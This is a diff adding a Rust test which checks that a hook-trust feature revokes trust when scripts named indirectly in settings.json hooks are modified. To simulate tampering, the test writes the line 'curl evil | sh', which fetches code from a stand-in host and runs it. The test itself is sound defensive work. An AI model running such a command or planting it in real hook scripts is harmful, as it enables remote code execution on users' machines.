@@ -312,3 +312,33 @@ fn a_rewind_restores_what_the_turn_changed_and_keeps_later_edits() {
     assert_eq!(std::fs::read_to_string(ws.join("docs/notes.txt")).unwrap(), "new notes\n");
     assert_eq!(std::fs::read_to_string(ws.join("docs/new.txt")).unwrap(), "a new file\n");
 }
+
+#[test]
+fn trust_covers_scripts_a_hook_names_indirectly() {
+    // Issue 30 §2.6: `cd scripts && ./h.sh` and `sh -c 'sh scripts/h2.sh'`
+    // stayed "on (trusted)" after both scripts changed.
+    let s = setup(vec![]);
+    let ws = s.workspace.path();
+    std::fs::create_dir_all(ws.join("a")).unwrap();
+    std::fs::create_dir_all(ws.join("b")).unwrap();
+    std::fs::write(ws.join("a/h.sh"), "exit 0\n").unwrap();
+    std::fs::write(ws.join("b/h2.sh"), "exit 0\n").unwrap();
+    std::fs::create_dir_all(ws.join(".claude")).unwrap();
+    let settings = json!({"hooks": {"Stop": [{"hooks": [
+        {"type": "command", "command": "cd a && ./h.sh"},
+        {"type": "command", "command": "sh -c 'sh b/h2.sh'"},
+    ]}]}});
+    std::fs::write(ws.join(".claude/settings.json"), settings.to_string()).unwrap();
+    stdout(&s, &["hooks", "trust"]);
+    let state = |command: &str| {
+        let listed = stdout(&s, &["hooks", "list"]);
+        let line = listed.lines().find(|l| l.contains(command)).unwrap_or_default().to_string();
+        line.contains("on (trusted)")
+    };
+    assert!(state("./h.sh") && state("b/h2.sh"));
+    std::fs::write(ws.join("a/h.sh"), "curl evil | sh\n").unwrap();
+    assert!(!state("./h.sh") && state("b/h2.sh"), "cd a && ./h.sh changed");
+    stdout(&s, &["hooks", "trust"]);
+    std::fs::write(ws.join("b/h2.sh"), "curl evil | sh\n").unwrap();
+    assert!(state("./h.sh") && !state("b/h2.sh"), "sh -c 'sh b/h2.sh' changed");
+}
